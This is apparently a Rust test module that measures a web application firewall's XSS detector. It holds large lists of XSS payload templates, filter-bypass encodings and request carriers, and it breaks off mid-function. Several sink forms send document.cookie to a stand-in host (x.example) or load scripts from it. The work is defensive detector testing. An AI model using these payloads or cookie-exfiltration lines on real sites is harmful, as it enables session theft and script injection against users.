//! Two measures of the XSS judge beyond the corpus rows, both built from the languages'
//! references rather than from rows:
//!
//! - **Attack variation.** Each detected tuning attack is varied the way attackers vary a
//!   payload: the case of tag and attribute names, the separators between attributes, the
//!   quotes, URL and HTML-entity encodings, JS escapes and comments, and sibling constructs
//!   (another tag, another event handler of the HTML spec's list, another URL-taking
//!   attribute, another script sink). A variant missed while its row is caught marks a rule
//!   fitted to the row rather than to the language.
//! - **Independent benign text.** Lines of text found on this machine that are not the corpus
//!   (Debian package documentation, the Rust book's prose and code, crate READMEs) plus a
//!   small generator of text with `<`, `>`, `=` and `(` that people type (comparisons,
//!   emoticons, addresses, arrows), each sent as traffic carries it (as is, upper case,
//!   form-encoded, percent-encoded, behind `q=`). Its false-positive rate is a proxy for the
//!   held-out one on far more than the corpus's benign rows.
//!
//! Run with `GWC_WAF_XSS=1` (figures) or `GWC_WAF_XSS=show` (also the missed variants and the
//! flagged benign lines) beside `waf_corpus_report`.

use std::path::{Path, PathBuf};

use super::{detect, load, show, wilson};

/// Prints both measures (called from `waf_corpus_report`).
pub(super) fn report() {
    let verbose = std::env::var_os("GWC_WAF_XSS").is_some_and(|v| v == "show");
    variation_report(verbose);
    vehicle_report(verbose);
    carrier_report(verbose);
    clobbering_report(verbose);
    benign_report(verbose);
}

// ---------------------------------------------------------------------------------------
// Attack variation
// ---------------------------------------------------------------------------------------

/// One attribute of a start tag: byte ranges into the payload.
struct Attr {
    name: (usize, usize),
    /// The value without its quotes, and the quote (0 when unquoted).
    value: Option<((usize, usize), u8)>,
}

/// One start tag (or, for a breakout, the attributes written after a leading quote).
struct Tag {
    /// Empty range for a breakout's attribute list.
    name: (usize, usize),
    attrs: Vec<Attr>,
    /// Whitespace runs between the name and attributes, and between attributes.
    gaps: Vec<(usize, usize)>,
}

fn is_space(b: u8) -> bool {
    matches!(b, b' ' | b'\t' | b'\n' | b'\r' | b'\x0c')
}

/// The attribute list starting at `i` (after a tag name), as the HTML tokenizer reads it:
/// names end at whitespace, `/`, `>` or `=`; values are quoted or run to whitespace or `>`.
fn attributes(p: &[u8], mut i: usize, tag: &mut Tag) -> usize {
    loop {
        let gap = i;
        while i < p.len() && (is_space(p[i]) || p[i] == b'/') {
            i += 1;
        }
        if i > gap {
            tag.gaps.push((gap, i));
        }
        if i >= p.len() || p[i] == b'>' || p[i] == b'<' {
            return i;
        }
        let start = i;
        i += 1;
        while i < p.len() && !is_space(p[i]) && !matches!(p[i], b'/' | b'>' | b'=') {
            i += 1;
        }
        let name = (start, i);
        let mut j = i;
        while j < p.len() && is_space(p[j]) {
            j += 1;
        }
        let mut value = None;
        if p.get(j) == Some(&b'=') {
            j += 1;
            while j < p.len() && is_space(p[j]) {
                j += 1;
            }
            match p.get(j) {
                Some(&q @ (b'"' | b'\'' | b'`')) => {
                    let end = p[j + 1..]
                        .iter()
                        .position(|&b| b == q)
                        .map_or(p.len(), |e| j + 1 + e);
                    value = Some(((j + 1, end), q));
                    i = (end + 1).min(p.len());
                }
                _ => {
                    let s = j;
                    while j < p.len() && !is_space(p[j]) && p[j] != b'>' {
                        j += 1;
                    }
                    value = Some(((s, j), 0));
                    i = j;
                }
            }
        }
        tag.attrs.push(Attr { name, value });
    }
}

/// The start tags of `p`, and a breakout's attribute list (`" onfocus=… x="`).
fn tags(p: &[u8]) -> Vec<Tag> {
    let mut out = Vec::new();
    let lead = p.iter().take_while(|&&b| is_space(b)).count();
    if matches!(p.get(lead), Some(b'"' | b'\''))
        && p.get(lead + 1).is_some_and(|&b| is_space(b) || b == b'/')
    {
        let mut tag = Tag {
            name: (lead + 1, lead + 1),
            attrs: Vec::new(),
            gaps: Vec::new(),
        };
        attributes(p, lead + 1, &mut tag);
        if !tag.attrs.is_empty() {
            out.push(tag);
        }
    }
    let mut i = 0;
    while i < p.len() {
        if p[i] == b'<' && p.get(i + 1).is_some_and(u8::is_ascii_alphabetic) {
            let start = i + 1;
            let mut j = start;
            while j < p.len() && (p[j].is_ascii_alphanumeric() || matches!(p[j], b'-' | b':')) {
                j += 1;
            }
            let mut tag = Tag {
                name: (start, j),
                attrs: Vec::new(),
                gaps: Vec::new(),
            };
            i = attributes(p, j, &mut tag).max(j);
            out.push(tag);
        } else {
            i += 1;
        }
    }
    out
}

/// `p` with the ranges replaced (ranges sorted, not overlapping).
fn splice(p: &[u8], mut edits: Vec<((usize, usize), Vec<u8>)>) -> Option<Vec<u8>> {
    if edits.is_empty() {
        return None;
    }
    edits.sort_by_key(|e| e.0);
    let mut out = Vec::with_capacity(p.len() + 16);
    let mut at = 0;
    for ((s, e), with) in edits {
        if s < at {
            continue;
        }
        out.extend_from_slice(&p[at..s]);
        out.extend_from_slice(&with);
        at = e;
    }
    out.extend_from_slice(&p[at..]);
    (out != p).then_some(out)
}

fn alternate_case(s: &[u8]) -> Vec<u8> {
    let mut up = false;
    s.iter()
        .map(|&b| {
            if b.is_ascii_alphabetic() {
                up = !up;
                if up {
                    b.to_ascii_uppercase()
                } else {
                    b.to_ascii_lowercase()
                }
            } else {
                b
            }
        })
        .collect()
}

fn lower(p: &[u8], (s, e): (usize, usize)) -> Vec<u8> {
    p[s..e].to_ascii_lowercase()
}

/// Where a script scheme starts inside an attribute value (leading spaces and controls are
/// skipped by the URL parser).
fn scheme_in(p: &[u8], (s, e): (usize, usize)) -> Option<usize> {
    let skip = p[s..e].iter().take_while(|&&b| b <= b' ').count();
    let v = p[s + skip..e].to_ascii_lowercase();
    ["javascript:", "vbscript:", "data:"]
        .iter()
        .any(|w| v.starts_with(w.as_bytes()))
        .then_some(s + skip)
}

/// Event-handler content attributes of the HTML standard (global, window and document
/// handlers), Pointer Events, CSS animations and transitions, Touch Events, selection and
/// SVG animation (SMIL) events.
const EVENT_HANDLERS: &[&str] = &[
    "onabort",
    "onafterprint",
    "onanimationcancel",
    "onanimationend",
    "onanimationiteration",
    "onanimationstart",
    "onauxclick",
    "onbeforecopy",
    "onbeforecut",
    "onbeforeinput",
    "onbeforematch",
    "onbeforeprint",
    "onbeforetoggle",
    "onbeforeunload",
    "onbegin",
    "onblur",
    "oncancel",
    "oncanplay",
    "oncanplaythrough",
    "onchange",
    "onclick",
    "onclose",
    "oncommand",
    "oncontextlost",
    "oncontextmenu",
    "oncontextrestored",
    "oncopy",
    "oncuechange",
    "oncut",
    "ondblclick",
    "ondrag",
    "ondragend",
    "ondragenter",
    "ondragleave",
    "ondragover",
    "ondragstart",
    "ondrop",
    "ondurationchange",
    "onemptied",
    "onend",
    "onended",
    "onerror",
    "onfocus",
    "onfocusin",
    "onfocusout",
    "onformdata",
    "onfullscreenchange",
    "ongotpointercapture",
    "onhashchange",
    "oninput",
    "oninvalid",
    "onkeydown",
    "onkeypress",
    "onkeyup",
    "onlanguagechange",
    "onload",
    "onloadeddata",
    "onloadedmetadata",
    "onloadstart",
    "onlostpointercapture",
    "onmessage",
    "onmessageerror",
    "onmousedown",
    "onmouseenter",
    "onmouseleave",
    "onmousemove",
    "onmouseout",
    "onmouseover",
    "onmouseup",
    "onoffline",
    "ononline",
    "onpagehide",
    "onpagereveal",
    "onpageshow",
    "onpageswap",
    "onpaste",
    "onpause",
    "onplay",
    "onplaying",
    "onpointercancel",
    "onpointerdown",
    "onpointerenter",
    "onpointerleave",
    "onpointermove",
    "onpointerout",
    "onpointerover",
    "onpointerrawupdate",
    "onpointerup",
    "onpopstate",
    "onprogress",
    "onratechange",
    "onrejectionhandled",
    "onrepeat",
    "onreset",
    "onresize",
    "onscroll",
    "onscrollend",
    "onsearch",
    "onsecuritypolicyviolation",
    "onseeked",
    "onseeking",
    "onselect",
    "onselectionchange",
    "onselectstart",
    "onslotchange",
    "onstalled",
    "onstorage",
    "onsubmit",
    "onsuspend",
    "ontimeupdate",
    "ontoggle",
    "ontouchcancel",
    "ontouchend",
    "ontouchmove",
    "ontouchstart",
    "ontransitioncancel",
    "ontransitionend",
    "ontransitionrun",
    "ontransitionstart",
    "onunhandledrejection",
    "onunload",
    "onvolumechange",
    "onwaiting",
    "onwebkitanimationend",
    "onwebkitanimationstart",
    "onwebkittransitionend",
    "onwheel",
];

/// Elements an event-handler attribute can sit on: void, form, media, interactive, SVG and
/// custom elements (a handler attribute is script whatever the element).
const HANDLER_TAGS: &[&str] = &[
    "video",
    "audio",
    "details",
    "body",
    "input",
    "select",
    "textarea",
    "marquee",
    "div",
    "p",
    "span",
    "a",
    "svg",
    "object",
    "x",
    "custom-element",
    "button",
    "keygen",
    "style",
    "frameset",
];

/// Element and URL-attribute pairs that navigate to or load their URL (a `javascript:` URL
/// there runs script).
const URL_ATTRS: &[(&str, &str)] = &[
    ("a", "href"),
    ("iframe", "src"),
    ("frame", "src"),
    ("form", "action"),
    ("button", "formaction"),
    ("input type=submit", "formaction"),
    ("object", "data"),
    ("embed", "src"),
    ("math", "href"),
    ("area", "href"),
    ("base", "href"),
    ("svg><a", "xlink:href"),
    ("svg><a", "href"),
    ("isindex", "action"),
];

/// Sinks and wrappers a call of a script sink can be replaced with, from the JS and DOM
/// references: other dialogs, the global object's members, indirect calls, evaluation of a
/// string, constructed functions, navigation to a script URL, exfiltration.
/// `{f}` is the sink's name, `{a}` its argument list, `{c}` the whole call, `{q}` a quote.
const SINK_FORMS: &[&str] = &[
    "prompt({a})",
    "confirm({a})",
    "print()",
    "top.{f}({a})",
    "window.{f}({a})",
    "self['{f}']({a})",
    "globalThis.{f}({a})",
    "parent.{f}({a})",
    "frames['{f}']({a})",
    "(0,{f})({a})",
    "{f}?.({a})",
    "{f}.call(null,{a})",
    "{f}.apply(null,[{a}])",
    "Reflect.apply({f},null,[{a}])",
    "{f}`{a}`",
    "{f}/**/({a})",
    "{f}\n({a})",
    "setTimeout({q}{c}{q})",
    "setInterval({q}{c}{q})",
    "eval({q}{c}{q})",
    "Function({q}{c}{q})()",
    "new Function({q}{c}{q})()",
    "[].constructor.constructor({q}{c}{q})()",
    "import({q}data:text/javascript,{c}{q})",
    "location={q}javascript:{c}{q}",
    "location.href={q}javascript:{c}{q}",
    "document.location={q}javascript:{c}{q}",
    "window.open({q}javascript:{c}{q})",
    "fetch({q}//x.example/?{q}+document.cookie)",
    "navigator.sendBeacon({q}//x.example{q},document.cookie)",
    "new Image().src={q}//x.example/?{q}+document.cookie",
    "document.write({q}<img src=x>{q})",
    "document.body.innerHTML={q}<img src=x>{q}",
    "document.body.insertAdjacentHTML({q}beforeend{q},{q}<b>{q})",
    "eval(atob({q}YWxlcnQoMSk={q}))",
    // String building and indirect calls.
    "window[{q}al{q}+{q}ert{q}]({a})",
    "top[atob({q}YWxlcnQ={q})]({a})",
    "window[String.fromCharCode(97,108,101,114,116)]({a})",
    "[{a}].find({f})",
    "[{a}].map({f})",
    "Promise.resolve({a}).then({f})",
    "onerror={f};throw {a}",
    "throw onerror={f},{a}",
    "x={f},x({a})",
    "new class{constructor(){{c}}}",
    "(()=>{{c}})()",
    "eval.call(null,{q}{c}{q})",
    "globalThis[{q}ev{q}+{q}al{q}]({q}{c}{q})",
    "eval(name)",
    "eval(location.hash.slice(1))",
    "setTimeout(name)",
    "location=name",
    "$.globalEval({q}{c}{q})",
    "document.head.append(Object.assign(document.createElement({q}script{q}),{src:{q}//x.example{q}}))",
    "with(document)body.appendChild(createElement({q}script{q})).src={q}//x.example{q}",
    // Sixth round (waf-xss), from the JS and DOM references: calls without parentheses,
    // handlers assigned then raised, reflection, other objects that reach the globals.
    "{onerror={f}}throw {a}",
    "window.onerror={f};throw {a}",
    "[].map.call([{a}],{f})",
    "[{f}][0]({a})",
    "{f}.bind(null,{a})()",
    "Reflect.construct(Function,[{q}{c}{q}])()",
    "this.{f}({a})",
    "this[{q}{f}{q}]({a})",
    "document.defaultView.{f}({a})",
    "(1,eval)({q}{c}{q})",
    "setTimeout`{f}\\x28{a}\\x29`",
    "eval({q}\\x61lert\\x28{a}\\x29{q})",
    "eval(String.fromCharCode(97,108,101,114,116,40,49,41))",
    "eval(unescape({q}%61%6c%65%72%74%28%31%29{q}))",
    "eval(decodeURIComponent({q}%61lert%28{a}%29{q}))",
    "location.assign({q}javascript:{c}{q})",
    "top.location={q}javascript:{c}{q}",
    "open({q}javascript:{c}{q})",
    "import({q}//x.example/x.js{q})",
    "document.writeln({q}<svg onload={c}>{q})",
    // Eighth round (waf-xss8): white space JS allows between `new` and the constructor.
    "new\tFunction({q}{c}{q})()",
];

/// Places a script runs from, from the HTML standard, SVG, MathML, CSS and JS contexts (a
/// string, a template, an attribute, a comment): `{c}` is the script (a call), `{b}` a
/// base64 document running it.
const VEHICLES: &[&str] = &[
    "<script>{c}</script>",
    "<script src=data:,{c}></script>",
    "<img src=x onerror=\"{c}\">",
    "<img srcset=x onerror=\"{c}\">",
    "<input type=image src=x onerror=\"{c}\">",
    "<svg onload=\"{c}\">",
    "<svg><script>{c}</script></svg>",
    "<svg><animate onbegin=\"{c}\" attributeName=x dur=1s>",
    "<svg><discard onbegin=\"{c}\">",
    "<svg><set attributeName=href to=\"javascript:{c}\" /></svg>",
    "<svg><a xlink:href=\"javascript:{c}\"><text x=20 y=20>x</text></a></svg>",
    "<math><mtext><a href=\"javascript:{c}\">x</a></mtext></math>",
    "<math href=\"javascript:{c}\">x</math>",
    "<math><maction actiontype=statusline xlink:href=\"javascript:{c}\">x</maction></math>",
    "<iframe src=\"javascript:{c}\"></iframe>",
    "<iframe srcdoc=\"&lt;script&gt;{c}&lt;/script&gt;\"></iframe>",
    "<iframe src=\"data:text/html;base64,{b}\"></iframe>",
    "<object data=\"javascript:{c}\"></object>",
    "<object data=\"data:text/html;base64,{b}\"></object>",
    "<embed src=\"javascript:{c}\">",
    "<embed src=\"data:text/html;base64,{b}\">",
    "<a href=\"javascript:{c}\">x</a>",
    "<a href=\"&#106;avascript:{c}\">x</a>",
    "<a href=\" &#14; javascript:{c}\">x</a>",
    "<a href=\"data:text/html;base64,{b}\">x</a>",
    "<form action=\"javascript:{c}\"><input type=submit></form>",
    "<form><button formaction=\"javascript:{c}\">x</button></form>",
    "<details open ontoggle=\"{c}\">",
    "<body onload=\"{c}\">",
    "<frameset onload=\"{c}\">",
    "<input autofocus onfocus=\"{c}\">",
    "<select autofocus onfocus=\"{c}\">",
    "<textarea autofocus onfocus=\"{c}\"></textarea>",
    "<video><source onerror=\"{c}\"></video>",
    "<audio src=x onerror=\"{c}\">",
    "<marquee onstart=\"{c}\">x</marquee>",
    "<div onpointerover=\"{c}\">x</div>",
    "<x contenteditable onbeforeinput=\"{c}\">x</x>",
    "<x style=\"animation-name:y\" onanimationstart=\"{c}\">",
    "<style onload=\"{c}\"></style>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:{c}\">",
    "<base href=\"javascript:{c}//\">",
    "<table background=\"javascript:{c}\">",
    "<div style=\"background:url(javascript:{c})\">",
    "<div style=\"width:expression({c})\">",
    "<!--<img src=\"--><img src=x onerror=\"{c}\"//\">",
    "<noscript><p title=\"</noscript><img src=x onerror={c}>\">",
    "<![CDATA[<script>{c}</script>]]>",
    "';{c};//",
    "\";{c};//",
    "'-{c}-'",
    "\"+{c}+\"",
    "\\';{c}//",
    "</script><script>{c}</script>",
    "${{c}}",
    "{{constructor.constructor(`{c}`)()}}",
    "javascript:{c}",
    "\" onmouseover=\"{c}",
    "' onfocus='{c}' autofocus '",
    "\"><img src=x onerror=\"{c}\">",
    "'><svg onload=\"{c}\">",
    "\" autofocus onfocus=\"{c}\" x=\"",
    // Sixth round (waf-xss), from the HTML standard's tokenizer: `/`, form feed and no
    // space between attributes, backtick and unquoted values, a tag left open, foreign
    // content (`<style>` in SVG and MathML is no raw text), comments, CDATA and processing
    // instructions a filter reads differently from a browser.
    "<img/src=x/onerror=\"{c}\">",
    "<img\x0csrc=x\x0conerror=\"{c}\">",
    "<img src=x onerror=\"{c}\"//",
    "<img src=`x` onerror=`{c}`>",
    "<img src=x onerror={c}>",
    "<svg/onload={c}",
    "<svg><style><img src=x onerror=\"{c}\"></style></svg>",
    "<math><style><img src=x onerror=\"{c}\"></style></math>",
    "<!--><img src=x onerror=\"{c}\">-->",
    "<![CDATA[><img src=x onerror=\"{c}\">]]>",
    "<? x=\"><img src=x onerror=\"{c}\">\">",
    "</x/><svg onload=\"{c}\">",
    "<title><img title=\"</title><img src=x onerror={c}>\">",
    // Elements and attributes that load or navigate.
    "<meta http-equiv=\"refresh\" content=\"0;url=data:text/html;base64,{b}\">",
    "<iframe srcdoc=\"&lt;img src=x onerror=&quot;{c}&quot;&gt;\"></iframe>",
    "<button form=f formaction=\"javascript:{c}\">x</button>",
    "<input type=image formaction=\"javascript:{c}\" src=x>",
    "<object data=\"data:text/html,&lt;script&gt;{c}&lt;/script&gt;\"></object>",
    "<embed src=\"data:image/svg+xml;base64,{b}\">",
    "<link rel=import href=\"data:text/html;base64,{b}\">",
    "<svg><use href=\"data:image/svg+xml;base64,{b}#x\"/></svg>",
    "<svg><animate attributeName=href values=\"javascript:{c}\"/><a><text>x</text></a></svg>",
    "<svg><animate xlink:href=#a attributeName=xlink:href from=\"javascript:{c}\" to=1 />",
    // Script URLs as browsers still read them: references with and without `;`, tabs and
    // newlines inside the scheme, leading controls, other schemes.
    "<a href=\"java&#x09;script:{c}\">x</a>",
    "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;{c}\">x</a>",
    "<a href=\"&#0000106avascript:{c}\">x</a>",
    "<a href=\"javascript&#58;{c}\">x</a>",
    "<a href=\"java&Tab;script&colon;{c}\">x</a>",
    "<a href=\"jav&NewLine;ascript:{c}\">x</a>",
    "<a href=\"\x01\x02javascript:{c}\">x</a>",
    "<a href=\"JaVaScRiPt:{c}\">x</a>",
    "<a href=\"javascript://%0a{c}\">x</a>",
    "<a href=\"data:text/html;charset=utf-8,&lt;script&gt;{c}&lt;/script&gt;\">x</a>",
    "<a href=\"vbscript:{c}\">x</a>",
    // Script strings and blocks left in other ways.
    "'}};{c};//",
    "\"});{c};//",
    "`;{c};`",
    "*/{c}/*",
    "');{c};('",
    "'||{c}||'",
    "`+{c}+`",
    "</script><svg onload={c}>",
    // CSS.
    "<style>@import 'javascript:{c}';</style>",
    "<style>*{x:expression({c})}</style>",
    "<div style=\"x:\\65 xpression({c})\">",
    "<div style=\"list-style:url(javascript:{c})\">",
    "<div style=\"behavior:url(data:text/x-component;base64,{b})\">",
    "<div style=\"-moz-binding:url(data:text/xml;base64,{b})\">",
    // Client-side templates (AngularJS, Vue, Alpine) that evaluate expressions.
    "{{$on.constructor(`{c}`)()}}",
    "{{$eval.constructor(`{c}`)()}}",
    "{{_c.constructor(`{c}`)()}}",
    "{{[].pop.constructor(`{c}`)()}}",
    "<input autofocus ng-focus=\"{c}\">",
    "<div ng-app><p ng-click=\"{c}\">x</p></div>",
    "<div v-on:click=\"{c}\">x</div>",
    "<button @click=\"{c}\">x</button>",
    "<div x-data x-init=\"{c}\"></div>",
    // Seventh round (waf-xss), from the HTML standard's tokenizer states: the ends of
    // RCDATA and RAWTEXT elements, attribute values left by each quote, foreign content
    // (namespace confusion through MathML text integration points and `mglyph`),
    // `template`, `noembed`, `xmp`, and handlers any element fires (custom elements, popover,
    // content visibility, CSS transitions).
    "</textarea><svg onload=\"{c}\">",
    "</style><img src=x onerror=\"{c}\">",
    "</noscript><img src=x onerror=\"{c}\">",
    "</xmp><svg onload=\"{c}\">",
    "</noembed><img src=x onerror=\"{c}\">",
    "</iframe><img src=x onerror=\"{c}\">",
    "`><img src=x onerror=\"{c}\">",
    "<noembed><img title=\"</noembed><img src=x onerror={c}>\"></noembed>",
    "<xmp><p title=\"</xmp><svg onload={c}>\">",
    "<template><img src=x onerror=\"{c}\"></template>",
    "<math><mtext><table><mglyph><style><img src=x onerror=\"{c}\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=\"{c}\">",
    "<svg></p><style><a title=\"</style><img src=x onerror={c}>\">",
    "<svg><foreignObject><iframe src=\"javascript:{c}\"></iframe></foreignObject></svg>",
    "<x-widget tabindex=1 autofocus onfocus=\"{c}\"></x-widget>",
    "<x onfocus=\"{c}\" autofocus tabindex=1>",
    "<button popovertarget=p>x</button><div popover id=p onbeforetoggle=\"{c}\">x</div>",
    "<div style=\"content-visibility:auto\" oncontentvisibilityautostatechange=\"{c}\">x</div>",
    "<x style=\"transition:color 1s\" ontransitionrun=\"{c}\" tabindex=1>",
    "<x style=\"animation:s 1s\" onanimationend=\"{c}\">",
    // JS contexts: a line terminator U+2028/U+2029 ends a `//` comment, JSON inside a script
    // block, a value written into an inline handler's string.
    "//\u{2028}{c}//",
    "\u{2029}{c}//",
    "{\"x\":\"</script><script>{c}</script>\"}",
    "{\"x\":\"\\u003cimg src=x onerror={c}\\u003e\"}",
    "\\x3csvg onload={c}\\x3e",
    // `srcdoc` and `data:` documents, entity-encoded once and twice.
    "<iframe srcdoc=\"&amp;lt;script&amp;gt;{c}&amp;lt;/script&amp;gt;\"></iframe>",
    "<iframe srcdoc=\"&#60;svg onload&#61;{c}&#62;\"></iframe>",
    "<iframe src=\"data:text/html;charset=utf-8;base64,{b}\"></iframe>",
    "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;{c}\">x</a>",
    "<a href=\"java&#x0D;script:{c}\">x</a>",
    // CSS: a `url(` and a script scheme hidden by escapes.
    "<div style=\"background:url(\\6a avascript:{c})\">",
    "<div style=\"background:u\\72l(javascript:{c})\">",
    // Eighth round (waf-xss8): a `//` comment ended by a line feed, Netscape's JS entities,
    // style attributes whose declarations CSS parsers split in different places (escaped
    // names, blocks, a declaration inside a string).
    "//\n{c}//",
    "<br size=\"&{{c}};\">",
    "<div style=\"\\62 ackground:url(javascript:{c})\">",
    "<div style=\"{}*{x:expression({c})}\">",
    "<div style=\"font-family:'x;background:url(javascript:{c})'\">",
    // Ninth round (waf-xss9): script strings left after a value the page held, by each
    // quote and with each way of keeping the rest of the script valid (a comment to the line
    // end, an HTML-like comment, the string reopened after another operator); CSS imports by
    // URL and with an escaped keyword; markup handed to DOM parsing sinks.
    "x');{c}//",
    "1'-{c}-'",
    "\\\";{c}//",
    "'));{c}//",
    "\"}]);{c};//",
    "';{c}<!--",
    "'*{c}*'",
    "\"&&{c}&&\"",
    "abc`;{c};`",
    "@import url(javascript:{c});",
    "@\\i\\m\\p\\o\\r\\t 'javascript:{c}';",
    "document.body.innerHTML='<img src=x onerror=\"{c}\">'",
    "x.insertAdjacentHTML('afterend','<svg onload=\"{c}\">')",
    // Eleventh round (waf-xss11): a handler name with punctuation glued (old Gecko), a
    // comment inside a scheme that a comment-stripping filter joins, HTML's legacy
    // references without `;`.
    "<body onload!#$%&()*~+-_.,:;?@[/|\\]^`=\"{c}\">",
    "<img src=\"javas<!-- -->cript:{c}\">",
    "&ltscript&gt{c}&lt/script&gt",
    "&ltimg src=x onerror=&quot{c}&quot&gt",
];

fn base64(b: &[u8]) -> String {
    const A: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in b.chunks(3) {
        let n = chunk
            .iter()
            .enumerate()
            .fold(0u32, |acc, (k, &x)| acc | u32::from(x) << (16 - 8 * k));
        for k in 0..4 {
            if k <= chunk.len() {
                out.push(A[(n >> (18 - 6 * k) & 63) as usize] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

/// Every vehicle with every sink form of `alert(1)`: the reference matrix, independent of
/// the rows. Returns (caught, total).
fn vehicle_report(verbose: bool) {
    let (mut caught, mut total) = (0, 0);
    let mut per_vehicle = Vec::new();
    for v in VEHICLES {
        let (mut k, mut n) = (0, 0);
        for form in SINK_FORMS.iter().chain(["alert(1)"].iter()) {
            let c = form
                .replace("{f}", "alert")
                .replace("{a}", "1")
                .replace("{c}", "alert(1)")
                .replace("{q}", "'");
            // A value the vehicle's syntax cannot carry (a backtick inside a backtick-quoted
            // value, a space in an unquoted one) would end it early: not a payload.
            let unquoted = v.contains("={c}") && c.bytes().any(|b| is_space(b) || b == b'>');
            if unquoted || v.contains("=`{c}`") && c.contains('`') {
                continue;
            }
            let b = base64(format!("<script>{c}</script>").as_bytes());
            let payload = v.replace("{c}", &c).replace("{b}", &b);
            let hit = detect::xss(payload.as_bytes());
            k += usize::from(hit);
            n += 1;
            if !hit && verbose {
                println!("VEHICLE MISSED: {}", payload.escape_debug());
            }
        }
        caught += k;
        total += n;
        per_vehicle.push((v, k, n));
    }
    // The same vehicles running a function no rule names (`x()`): what the vehicle's own
    // shape is worth, without the sink lists. A vehicle whose only script is the call (a
    // string or comment breakout) cannot be told from code quoting a call, and misses here.
    let (mut own_k, mut own_n) = (0, 0);
    let mut own_missed = Vec::new();
    for v in VEHICLES {
        for c in ["x()", "go(1)", "a.b()"] {
            let b = base64(format!("<script>{c}</script>").as_bytes());
            let payload = v.replace("{c}", c).replace("{b}", &b);
            let hit = detect::xss(payload.as_bytes());
            own_k += usize::from(hit);
            own_n += 1;
            if !hit {
                own_missed.push(payload);
            }
        }
    }
    println!(
        "{}",
        show(
            "xss reference vehicles running an unnamed function (x(), go(1), a.b())",
            (own_k, own_n)
        )
    );
    if verbose {
        for m in own_missed {
            println!("VEHICLE UNNAMED MISSED: {}", m.escape_debug());
        }
    }
    let weak: Vec<String> = per_vehicle
        .iter()
        .filter(|(_, k, n)| k < n)
        .map(|(v, k, n)| format!("{v} {k}/{n}"))
        .collect();
    println!(
        "{}",
        show(
            "xss reference vehicles x sink forms detected",
            (caught, total)
        )
    );
    if !weak.is_empty() {
        println!("  vehicles with misses: {}", weak.join(" | "));
    }
}

/// A carrier: the payload as a request holds it.
type Carry = fn(&str) -> String;

/// Ways a request carries a value to the page, from HTTP, form encoding, XML and JSON: as a
/// field or cookie name, as a later field of a form body, after a product token in a header,
/// escaped as an XML attribute value or element text (the XML parser undoes the escapes before
/// the application reflects the value), as a JSON string escaped the way HTML-safe encoders
/// escape it (`\u003c` for `<`), in a cookie header, a path segment, a whole URL's query, a
/// multipart part, percent-encoded, base64 inside a field, and with HTML's legacy references
/// that need no `;`.
const CARRIERS: &[(&str, Carry)] = &[
    ("field name", |p| format!("{p}=1")),
    ("later form field", |p| format!("a=1&b={p}")),
    ("header after a product token", |p| {
        format!("Mozilla/5.0 (X11; Linux x86_64) Agent/1.0 {p}")
    }),
    ("XML attribute value", |p| {
        let e = p
            .replace('&', "&amp;")
            .replace('<', "&lt;")
            .replace('>', "&gt;")
            .replace('"', "&quot;");
        format!("<?xml version=\"1.0\"?><root><a v=\"{e}\"></a></root>")
    }),
    ("XML element text", |p| {
        let e = p
            .replace('&', "&amp;")
            .replace('<', "&lt;")
            .replace('>', "&gt;");
        format!("<?xml version=\"1.0\"?><root><v>{e}</v></root>")
    }),
    ("JSON string, HTML-safe escapes", |p| {
        let e = p
            .replace('\\', "\\\\")
            .replace('"', "\\\"")
            .replace('<', "\\u003c")
            .replace('>', "\\u003e")
            .replace('&', "\\u0026")
            .replace('\n', "\\n");
        format!("{{\"v\":\"{e}\"}}")
    }),
    ("cookie header, second cookie", |p| {
        format!("sid=abc123; pref={p}")
    }),
    ("URL path segment", |p| format!("/app/item/{p}/view")),
    ("query string of a whole URL", |p| {
        format!("https://app.example/search?lang=en&q={p}")
    }),
    ("multipart form part", |p| {
        format!("--b1\r\nContent-Disposition: form-data; name=\"x\"\r\n\r\n{p}\r\n--b1--\r\n")
    }),
    ("percent-encoded, spaces as +", |p| {
        p.bytes()
            .map(|b| match b {
                b' ' => "+".to_owned(),
                b if b.is_ascii_alphanumeric() => (b as char).to_string(),
                b => format!("%{b:02X}"),
            })
            .collect()
    }),
    ("base64 in a form field", |p| {
        format!("a=1&data={}&b=2", base64(p.as_bytes()))
    }),
    ("base64 in a JSON string", |p| {
        format!("{{\"id\":7,\"data\":\"{}\"}}", base64(p.as_bytes()))
    }),
    ("HTML legacy references without `;`", |p| {
        p.replace('&', "&amp")
            .replace('<', "&lt")
            .replace('>', "&gt")
    }),
];

/// Every vehicle running `alert(1)`, in each of [`CARRIERS`]: a carrier missed as a whole
/// marks a decoding or a context the judge does not read.
fn carrier_report(verbose: bool) {
    let mut line = String::new();
    let (mut all_k, mut all_n) = (0, 0);
    for (name, carry) in CARRIERS {
        let (mut k, mut n) = (0, 0);
        for v in VEHICLES {
            let c = "alert(1)";
            let b = base64(format!("<script>{c}</script>").as_bytes());
            let payload = v.replace("{c}", c).replace("{b}", &b);
            let carried = carry(&payload);
            let hit = detect::xss(carried.as_bytes());
            k += usize::from(hit);
            n += 1;
            if !hit && verbose {
                println!("CARRIER MISSED ({name}): {}", carried.escape_debug());
            }
        }
        line.push_str(&format!(" {name} {k}/{n};"));
        all_k += k;
        all_n += n;
    }
    println!(
        "{} | by carrier:{line}",
        show(
            "xss reference vehicles in carriers detected",
            (all_k, all_n)
        )
    );
}

/// DOM clobbering forms from the DOM standard: an element whose `id` or `name` shadows a
/// property of `document`, of a form or of a node that scripts and sanitizers read (the
/// named-property rules: `embed`, `form`, `iframe`, `img` and `object` by name on `document`,
/// any element by `id` on `window`, form-associated elements by name on their form).
fn clobbering_report(verbose: bool) {
    const PROPERTIES: &[&str] = &[
        "attributes",
        "getElementById",
        "getElementsByTagName",
        "createElement",
        "currentScript",
        "defaultView",
        "documentElement",
        "parentNode",
        "childNodes",
        "firstChild",
        "nodeName",
        "nodeType",
        "innerHTML",
        "ownerDocument",
        "querySelector",
        "setAttribute",
        "removeChild",
        "cookie",
    ];
    let (mut caught, mut total) = (0, 0);
    for prop in PROPERTIES {
        for el in [
            "img", "form", "embed", "object", "iframe", "a", "input", "button",
        ] {
            for attr in ["id", "name"] {
